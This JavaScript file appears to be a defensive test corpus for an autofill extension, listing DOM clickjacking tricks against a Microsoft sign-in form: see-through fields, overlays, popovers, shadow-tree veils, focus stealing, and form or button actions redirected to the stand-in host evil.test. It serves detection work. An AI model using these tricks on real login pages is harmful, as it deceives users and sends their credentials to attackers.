// Ways in which a page on the right host can hide, cover or move a field, or lead it astray, while a person believes to
// see something else. Each is a function that runs in the page and is given the field's selector. The host is Microsoft's,
// so this is the second line of defence: the first is that there is nothing of ours in the page to click.
// Source: "DOM-based Extension Clickjacking" (DEF CON 33) for the first dozen; the rest is what a form can do.
export const corpus = {
  'a see-through field': (field) => { document.querySelector(field).style.opacity = '0.1'; },
  'a see-through form': () => { document.querySelector('form').style.opacity = '0.3'; },
  'a see-through page': () => { document.body.style.opacity = '0.2'; },
  'see-through in three places': (field) => {
    const box = document.querySelector(field);
    for (const node of [box, box.parentElement, document.body]) node.style.opacity = '0.85';
  },
  'a see-through document': () => { document.documentElement.style.opacity = '0.4'; },
  'an overlay': () => {
    const cover = document.createElement('div');
    cover.style.cssText = 'position:fixed;inset:0;z-index:99999;background:#fff';
    document.body.append(cover);
  },
  'a popover': () => {
    const cover = document.createElement('div');
    cover.popover = 'manual';
    cover.style.cssText = 'width:100vw;height:100vh;border:0;padding:0;margin:0';
    document.body.append(cover);
    cover.showPopover();
  },
  'a popover that lets clicks through': () => {
    const cover = document.createElement('div');
    cover.popover = 'manual';
    cover.style.cssText = 'width:100vw;height:100vh;border:0;padding:0;margin:0;background:#fff;pointer-events:none';
    document.body.append(cover);
    cover.showPopover();
  },
  'a picture that lets clicks through': (field) => {
    const { left, top, width, height } = document.querySelector(field).getBoundingClientRect();
    const cover = document.createElementNS('http://www.w3.org/2000/svg', 'svg');
    cover.style.cssText = `position:fixed;z-index:99999;pointer-events:none;left:${left}px;top:${top}px;width:${width}px;height:${height}px`;
    document.body.append(cover);
  },
  'a dialog': () => {
    const cover = document.createElement('dialog');
    cover.style.cssText = 'width:100vw;height:100vh;max-width:none;max-height:none;border:0;padding:0;margin:0';
    document.body.append(cover);
    cover.showModal();
  },
  'a cover over a part': (field) => {
    const { right, top, width, height } = document.querySelector(field).getBoundingClientRect();
    const cover = document.createElement('div');
    cover.style.cssText = `position:fixed;z-index:99999;background:#fff;left:${right - width * 0.4}px;top:${top}px;width:${width * 0.4}px;height:${height}px`;
    document.body.append(cover);
  },
  'a field that runs away': (field) => {
    const box = document.querySelector(field);
    box.style.position = 'relative';
    const run = (time) => {
      box.style.left = `${time % 40}px`;
      requestAnimationFrame(run);
    };
    requestAnimationFrame(run);
  },
  'a page that takes the focus away': (field) => {
    const thief = document.querySelector('#idSIButton9');
    document.querySelector(field).addEventListener('focus', () => thief.focus());
  },
  'a loop of focus': (field) => {
    const box = document.querySelector(field);
    const thief = document.querySelector('#idSIButton9');
    box.addEventListener('focus', () => thief.focus());
    setInterval(() => (document.activeElement === thief ? box : thief).focus(), 1);
  },
  'a cover over the middle': (field) => {
    const { left, top, width, height } = document.querySelector(field).getBoundingClientRect();
    const cover = document.createElement('div');
    cover.style.cssText = `position:fixed;z-index:99999;background:#fff;left:${left + width / 2 - 5}px;top:${top}px;width:10px;height:${height}px`;
    document.body.append(cover);
  },
  'a cover over a corner': (field) => {
    const { right, top, width, height } = document.querySelector(field).getBoundingClientRect();
    const cover = document.createElement('div');
    cover.style.cssText = `position:fixed;z-index:99999;background:#fff;left:${right - width * 0.45}px;top:${top}px;width:${width * 0.45}px;height:${height * 0.45}px`;
    document.body.append(cover);
  },
  'a frame that lets clicks through, beside the body': () => {
    const cover = document.createElement('iframe');
    cover.style.cssText = 'position:fixed;inset:0;width:100%;height:100%;border:0;z-index:99999;pointer-events:none';
    document.documentElement.append(cover);
  },
  'what a popover lays behind itself': () => {
    const sheet = new CSSStyleSheet();
    sheet.replaceSync('#veil::backdrop { background: #fff }');
    document.adoptedStyleSheets = [sheet];
    const small = Object.assign(document.createElement('div'), { id: 'veil', popover: 'manual' });
    small.style.cssText = 'width:1px;height:1px;border:0;padding:0;margin:0';
    document.body.append(small);
    small.showPopover();
  },
  'a veil in a shadow tree': () => {
    const tree = () => {
      const host = document.createElement('div');
      return [host, host.attachShadow({ mode: 'closed' })];
    };
    const [[outer, below], [inner, deepest]] = [tree(), tree()];
    const cover = document.createElement('div');
    cover.style.cssText = 'position:fixed;inset:0;z-index:99999;background:#fff;pointer-events:none';
    deepest.append(cover);
    below.append(inner);
    document.body.append(outer);
  },
  'a shadow tree that draws the field see-through': (field) => {
    const pane = document.createElement('div');
    pane.style.opacity = '0.05';
    pane.append(document.createElement('slot'));
    document.querySelector(field).closest('div').attachShadow({ mode: 'closed' }).append(pane);
  },
  'a pane that blurs what is behind it': () => {
    const pane = document.createElement('div');
    pane.style.cssText = 'position:fixed;inset:0;z-index:99999;backdrop-filter:blur(40px);pointer-events:none';
    document.body.append(pane);
  },
  'a filter that takes the colour away': () => { document.querySelector('form').style.filter = 'opacity(0.05)'; },
  'a mask': () => { document.body.style.maskImage = 'linear-gradient(transparent, transparent)'; },
  'a field like a speck': (field) => { document.querySelector(field).style.cssText = 'width:5px;height:5px;padding:0;border:0'; },
  'a field that jumps': (field) => {
    const box = document.querySelector(field);
    box.style.position = 'relative';
    setInterval(() => { box.style.left = box.style.left === '9px' ? '0px' : '9px'; }, 60);
  },
  'a focus that wanders': (field) => {
    const [box, thief] = [field, '#idSIButton9'].map((one) => document.querySelector(one));
    setInterval(() => (document.activeElement === thief ? box : thief).focus(), 40);
  },
  'a second field': (field) => { document.querySelector('form').append(document.querySelector(field).cloneNode()); },
  'a form that posts elsewhere': () => { document.querySelector('form').setAttribute('action', 'https://evil.test/'); },
  'a button that posts elsewhere': () => { document.querySelector('#idSIButton9').setAttribute('formaction', 'https://evil.test/'); },
  'a button beside the form that posts elsewhere': () => {
    const form = document.querySelector('form');
    const button = document.createElement('button');
    form.id ||= 'form';
    button.setAttribute('form', form.id);
    button.setAttribute('formaction', 'https://evil.test/');
    document.body.append(button);
  },
  'a form that writes into its address': () => { document.querySelector('form').method = 'get'; },
  'another box that hides what is typed': () => {
    document.querySelector('form').append(Object.assign(document.createElement('input'), { type: 'password', name: 'other' }));
  },
  'a read-only field': (field) => { document.querySelector(field).readOnly = true; },
  'a disabled field': (field) => { document.querySelector(field).disabled = true; },
  'a field out of sight': (field) => { document.querySelector(field).className += ' moveOffScreen'; },
  'a field of no size': (field) => { document.querySelector(field).style.cssText = 'width:0;height:0;padding:0;border:0'; },
};

// Ways to hide a field from the person that nothing looks for, all at once. docs/refusals.md says why.
export const unseen = `
  body::after { content: ''; position: fixed; inset: 0; z-index: 99999; background: #fff; pointer-events: none }
  form { mix-blend-mode: lighten; filter: brightness(50) invert(1) }
  form > * { box-shadow: 0 0 0 9px #fff }
`;

// The fields to fill, by the page that shows them.
export const fields = { username: '#i0116', 'access-pass': 'input[name=accesspass]' };

// A user name is no secret: beside a masked box it may stand.
export const concerns = (view, name) => view !== 'username' || name !== 'another box that hides what is typed';

// These are looked for at the moment of filling alone: looking for them on every change of the page would cost too much.
export const late = new Set([
  'a popover that lets clicks through', 'a picture that lets clicks through', 'a cover over a part', 'a field that runs away',
  'a page that takes the focus away', 'a loop of focus', 'a cover over a corner', 'a frame that lets clicks through, beside the body',
  'a field that jumps', 'a focus that wanders', 'a veil in a shadow tree', 'a pane that blurs what is behind it',
]);
